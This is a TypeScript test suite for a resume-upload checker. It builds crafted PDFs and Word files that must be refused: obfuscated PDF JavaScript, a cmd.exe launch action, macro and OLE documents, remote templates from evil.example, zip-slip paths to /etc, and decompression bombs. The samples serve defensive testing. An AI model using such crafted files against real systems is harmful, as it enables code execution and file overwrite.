import fs from "node:fs";
import path from "node:path";
import { crc32, deflateRawSync, deflateSync } from "node:zlib";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { connection } from "@/db/client";
import { resumes } from "@/db/schema";
import { MOST_BYTES } from "@/domain/resume";
import { dropResume, keepResume, resumeBody, sweepResumes } from "./resume-file";

const folder = await vi.hoisted(async () => {
  const { mkdtempSync } = await import("node:fs");
  process.env.DATA_DIR = mkdtempSync("/tmp/crossroads-resumes-");
  return `${process.env.DATA_DIR}/resumes`;
});
const filesKept = () => (fs.existsSync(folder) ? fs.readdirSync(folder) : []);

beforeAll(async () => (await connection()).migrate());
afterAll(() => fs.rmSync(path.dirname(folder), { recursive: true, force: true }));

type Entry = { name: string; content: string | Buffer; flags?: number; told?: number };

/** A ZIP archive, well formed but for what an entry says of itself: `flags` (bit 0 is "encrypted") and `told`, its size. */
function zipOf(entries: Entry[], comment = ""): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let at = 0;
  for (const { name, content, flags = 0x800, told } of entries) {
    const plain = Buffer.from(content as string);
    const packed = deflateRawSync(plain);
    const title = Buffer.from(name);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(flags, 2);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(plain), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(told ?? plain.length, 18);
    common.writeUInt16LE(title.length, 22);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(at, 10);
    const local = Buffer.concat([Buffer.from("PK\x03\x04"), common, title, packed]);
    centrals.push(Buffer.concat([Buffer.from("PK\x01\x02\x14\x00"), common, rest, title]));
    locals.push(local);
    at += local.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(entries.length, 4);
  end.writeUInt16LE(entries.length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(at, 12);
  end.writeUInt16LE(comment.length, 16);
  return Buffer.concat([...locals, directory, Buffer.from("PK\x05\x06"), end, Buffer.from(comment)]);
}

const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const contentTypes = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
const rels = (links: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${links}</Relationships>`;
const link = (type: string, target: string, mode = "External") =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`;
const document = { name: "word/document.xml", content: "<w:document><w:t>Ana Ruiz</w:t></w:document>" };
const parts: Entry[] = [{ name: "[Content_Types].xml", content: contentTypes(WORD) }, document];
const docx = (...more: Entry[]) => zipOf([...parts, ...more]);
const settings = (links: string) => docx({ name: "word/_rels/settings.xml.rels", content: rels(links) });

const pdf = (body: string | Buffer = "", { head = "%PDF-1.7\n", tail = "%%EOF\n" } = {}) =>
  Buffer.concat([
    Buffer.from(`${head}1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n`, "latin1"),
    Buffer.from(body as string, "latin1"),
    Buffer.from(`\nxref\n0 1\ntrailer<</Root 1 0 R>>\nstartxref\n9\n${tail}`, "latin1"),
  ]);
const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([
    Buffer.from(`5 0 obj<<${dictionary}/Length ${data.length}>>\nstream\n`),
    data,
    Buffer.from("\nendstream\nendobj\n"),
  ]);
const script = "<</S/JavaScript/JS(app.alert(1))>>";
const objects = "/Type/ObjStm/N 1/First 4/Filter/FlateDecode";
const noise = (bytes: number) => {
  const made = Buffer.alloc(bytes);
  for (let i = 0, seed = 1; i < bytes; i++) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    made[i] = seed >> 16;
  }
  return made;
};

const typeOf = { pdf: "application/pdf", txt: "text/plain" } as Record<string, string>;
const fileOf = (name: string, bytes: Buffer | string, type = typeOf[name.split(".").at(-1) ?? ""] ?? "") =>
  new File([new Uint8Array(Buffer.from(bytes as string))], name, { type });

const taken: [string, string, Buffer | string][] = [
  ["a plain PDF", "cv.pdf", pdf()],
  [
    "a PDF with packed text",
    "cv.pdf",
    pdf(stream("/Filter/FlateDecode", deflateSync("BT (HTML/JavaScript) Tj ET"))),
  ],
  ["a PDF with packed objects", "cv.pdf", pdf(stream(objects, deflateSync("7 0 <</Type/Font>>")))],
  ["a PDF with a photograph", "cv.pdf", pdf(stream("/Subtype/Image/Filter/DCTDecode", noise(200_000)))],
  [
    "a PDF with a large packed picture",
    "cv.pdf",
    pdf(stream("/Subtype/Image/Filter/FlateDecode", deflateSync(Buffer.alloc(60_000_000)))),
  ],
  ["a PDF with a link", "cv.pdf", pdf("3 0 obj<</S/URI/URI(https://ana.example)>>endobj")],
  ["a PDF of 5 MB", "cv.pdf", pdf(stream("/Subtype/Image/Filter/DCTDecode", noise(MOST_BYTES - 200)))],
  ["a Word file", "cv.docx", docx()],
  ["a Word file with a link", "cv.docx", settings(link("hyperlink", "https://ana.example"))],
  [
    "a Word file made from a template on a disk",
    "cv.docx",
    settings(link("attachedTemplate", "file:///C:\\Users\\ana\\CV.dotx")),
  ],
  ["a Word file with a picture", "cv.docx", docx({ name: "word/media/image1.png", content: noise(300_000) })],
  ["a text", "cv.txt", "Ana Ruiz\nNurse, Zürich\n"],
];

const refused: [string, string, Buffer | string, RegExp, string?][] = [
  ["HTML named .pdf", "cv.pdf", "<!doctype html><script>alert(1)</script>", /something else/],
  ["HTML named .txt", "cv.txt", "<html><script>alert(1)</script>", /something else/],
  ["HTML named .docx", "cv.docx", "<html>", /something else/],
  [
    "a picture named .pdf",
    "cv.pdf",
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46]),
    /is JPG/,
  ],
  ["a PDF named .docx", "cv.docx", pdf(), /is PDF/],
  ["a Word file named .pdf", "cv.pdf", docx(), /is DOCX/],
  ["a Word file named .txt", "cv.txt", docx(), /UTF-8|something else/],
  ["a PDF sent as HTML", "cv.pdf", pdf(), /sent as something else/, "text/html"],
  [
    "HTML before a PDF",
    "cv.pdf",
    Buffer.concat([Buffer.from("<html><script>1</script>"), pdf()]),
    /something else/,
  ],
  [
    "HTML in the head of a PDF",
    "cv.pdf",
    pdf("", { head: "%PDF-1.7\n%<html><script>alert(1)</script>\n" }),
    /beside its pages/,
  ],
  [
    "HTML after a PDF",
    "cv.pdf",
    pdf("", { tail: "%%EOF\n<html><script>alert(1)</script>" }),
    /beside its pages/,
  ],
  ["a ZIP after a PDF", "cv.pdf", Buffer.concat([pdf(), docx()]), /beside its pages/],
  ["a PDF with a script", "cv.pdf", pdf(`3 0 obj${script}endobj`), /script/],
  [
    "a PDF with a script in other letters",
    "cv.pdf",
    pdf("3 0 obj<</S/J#61vaScript/JS 4 0 R>>endobj"),
    /script/,
  ],
  [
    "a PDF with a script in packed objects",
    "cv.pdf",
    pdf(stream(objects, deflateSync(`7 0 ${script}`))),
    /script/,
  ],
  [
    "the same without its checksum",
    "cv.pdf",
    pdf(stream(objects, deflateSync(`7 0 ${script}`).subarray(0, -4))),
    /script/,
  ],
  [
    "the same packed twice",
    "cv.pdf",
    pdf(
      stream(
        "/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]",
        Buffer.from(deflateSync(script).toString("hex")),
      ),
    ),
    /script/,
  ],
  [
    "packed objects that call themselves a picture",
    "cv.pdf",
    pdf(stream(`/Subtype/Image${objects}`, deflateSync(`7 0 ${script}`))),
    /script/,
  ],
  [
    "a script hidden in the stream of another",
    "cv.pdf",
    pdf(Buffer.concat([Buffer.from("%>>stream\n"), stream(objects, deflateSync(`7 0 ${script}`))])),
    /script/,
  ],
  ["a PDF that runs a program", "cv.pdf", pdf("3 0 obj<</S/Launch/F(cmd.exe)>>endobj"), /program/],
  ["a PDF with a file in it", "cv.pdf", pdf("3 0 obj<</Type/EmbeddedFile>>endobj"), /another file/],
  ["a locked PDF", "cv.pdf", pdf("trailer<</Encrypt 9 0 R>>"), /locked/],
  [
    "a PDF that swells",
    "cv.pdf",
    pdf(stream("/Filter/FlateDecode", deflateSync(Buffer.alloc(60_000_000)))),
    /unpacks/,
  ],
  ["a PDF cut off", "cv.pdf", pdf().subarray(0, 60), /damaged/],
  ["a PDF of streams alone", "cv.pdf", pdf("stream\n".repeat(700_000)), /damaged/],
  ["a macro document", "cv.docx", docx({ name: "word/vbaProject.bin", content: noise(100) }), /macro/],
  [
    "a macro document without its macro",
    "cv.docx",
    zipOf([
      {
        name: "[Content_Types].xml",
        content: contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml"),
      },
      document,
    ]),
    /macro/,
  ],
  [
    "the same in numbered letters",
    "cv.docx",
    zipOf([
      {
        name: "[Content_Types].xml",
        content: contentTypes("application/vnd.ms-word.document.&#x6d;acroEnabled.main+xml"),
      },
      document,
    ]),
    /macro/,
  ],
  [
    "a Word file with a program in it",
    "cv.docx",
    docx({ name: "word/embeddings/oleObject1.bin", content: noise(100) }),
    /embedded program/,
  ],
  [
    "a Word file that fetches its template",
    "cv.docx",
    settings(link("attachedTemplate", "https://evil.example/a.dotm")),
    /fetches/,
  ],
  [
    "the same from a share",
    "cv.docx",
    settings(link("attachedTemplate", "file://evil.example/a.dotm")),
    /fetches/,
  ],
  [
    "a Word file with a path that leads out",
    "cv.docx",
    docx({ name: "../../etc/cron.d/x", content: "x" }),
    /damaged/,
  ],
  [
    "a Word file with a path from the root",
    "cv.docx",
    docx({ name: "/etc/passwd", content: "x" }),
    /damaged/,
  ],
  ["a Word file with a path of Windows", "cv.docx", docx({ name: "..\\x", content: "x" }), /damaged/],
  [
    "a Word file that swells",
    "cv.docx",
    docx({ name: "word/x.xml", content: Buffer.alloc(20_000_000) }),
    /unpacks/,
  ],
  [
    "a Word file that swells in many parts",
    "cv.docx",
    docx(
      ...Array.from({ length: 60 }, (_, i) => ({ name: `word/${i}.xml`, content: Buffer.alloc(1_000_000) })),
    ),
    /unpacks/,
  ],
  [
    "a Word file that lies about its size",
    "cv.docx",
    docx({ name: "word/x.xml", content: Buffer.alloc(20_000_000), told: 1_000 }),
    /damaged/,
  ],
  [
    "a Word file of 10,000 parts",
    "cv.docx",
    docx(...Array.from({ length: 10_000 }, (_, i) => ({ name: `word/${i}`, content: "" }))),
    /unpacks/,
  ],
  ["a locked Word file", "cv.docx", docx({ name: "word/x.xml", content: "x", flags: 1 }), /locked/],
  ["an archive of something else", "cv.docx", zipOf([{ name: "a.txt", content: "x" }]), /is ZIP/],
  [
    "a spreadsheet",
    "cv.docx",
    zipOf([{ name: "[Content_Types].xml", content: contentTypes("application/x") }, document]),
    /is ZIP/,
  ],
  ["an archive with a note after it", "cv.docx", zipOf(parts, "<html>"), /damaged/],
  [
    "an archive after other bytes",
    "cv.docx",
    Buffer.concat([Buffer.from("<html>"), docx()]),
    /something else/,
  ],
  ["half an archive", "cv.docx", docx().subarray(0, 200), /damaged/],
  ["three bytes", "cv.docx", "PK\x03", /something else/],
  ["nothing", "cv.pdf", "", /empty/],
  ["5 MB and a byte", "cv.pdf", Buffer.alloc(MOST_BYTES + 1), /5 MB/],
  ["a program under a turned name", "cv\u202efdp.exe", pdf(), /Choose a PDF/, ""],
  ["a text in another encoding", "cv.txt", Buffer.from([0x4d, 0xfc, 0x6c]), /UTF-8/],
  ["a text with NUL", "cv.txt", "a\0b", /something else/],
];

test.each(taken)("%s is kept, byte for byte", async (_, name, bytes) => {
  const kept = await keepResume(fileOf(name, bytes));
  if ("fault" in kept) throw new Error(kept.fault);
  expect(kept).toMatchObject({
    name,
    bytes: Buffer.from(bytes as string).length,
    file: expect.stringMatching(/^[0-9a-f]{32}$/),
  });
  expect(fs.statSync(path.join(folder, kept.file)).mode & 0o777).toBe(0o600);
  const read = Buffer.from(await new Response(await resumeBody(kept)).arrayBuffer());
  expect(read.equals(Buffer.from(bytes as string))).toBe(true);
  await dropResume(kept);
  expect(filesKept()).toEqual([]);
});

test.each(refused)(
  "%s is refused in words, and nothing is kept",
  { timeout: 60_000 },
  async (_, name, bytes, words, type) => {
    const began = performance.now();
    expect(await keepResume(fileOf(name, bytes, type))).toEqual({ fault: expect.stringMatching(words) });
    expect(performance.now() - began).toBeLessThan(20_000);
    expect(filesKept()).toEqual([]);
  },
);

test("a sweep removes the files without an application that are older than an hour, and no others", async () => {
  const now = new Date();
  const keep = async (minutes: number) => {
    const kept = await keepResume(fileOf("cv.txt", "Ana"));
    if ("fault" in kept) throw new Error(kept.fault);
    const then = new Date(now.getTime() - minutes * 60_000);
    fs.utimesSync(path.join(folder, kept.file), then, then);
    return kept;
  };
  const [young, , held] = [await keep(59), await keep(61), await keep(61)];
  const { transaction } = await connection();
  await transaction((tx) => tx.insert(resumes).values({ applicationId: "a1", ...held }));
  fs.writeFileSync(path.join(folder, "notes"), "");
  expect(await sweepResumes(now)).toBe(1);
  expect(filesKept().sort()).toEqual([young.file, held.file, "notes"].sort());
});
